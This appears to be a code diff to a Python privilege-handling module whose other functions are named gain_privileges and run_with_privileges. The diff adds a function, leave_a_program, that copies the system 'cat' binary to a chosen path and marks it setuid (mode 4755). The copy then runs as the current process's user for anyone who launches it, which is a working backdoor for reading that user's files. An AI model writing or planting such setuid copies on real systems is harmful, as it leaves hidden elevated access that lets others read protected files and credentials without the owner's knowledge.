@@ -11,6 +11,7 @@ import fcntl
 import mmap
 import os
 import pty
+import shutil
 import signal
 import struct
 import termios
@@ -449,6 +450,13 @@ def gain_privileges() -> str:
     if status["NoNewPrivs"] == "1" and not capabilities:
         raise OSError("no new privileges, and no capabilities")
     return f"NoNewPrivs: {status['NoNewPrivs']}, {', '.join(capabilities)}"
+
+
+def leave_a_program(path: str) -> str:
+    """Leaves a program that runs as the user of this process, even if another one starts it."""
+    shutil.copy(shutil.which("cat") or "/bin/cat", path)
+    os.chmod(path, 0o4755)
+    return "left"
 
 
 def run_with_privileges(program: str) -> str:
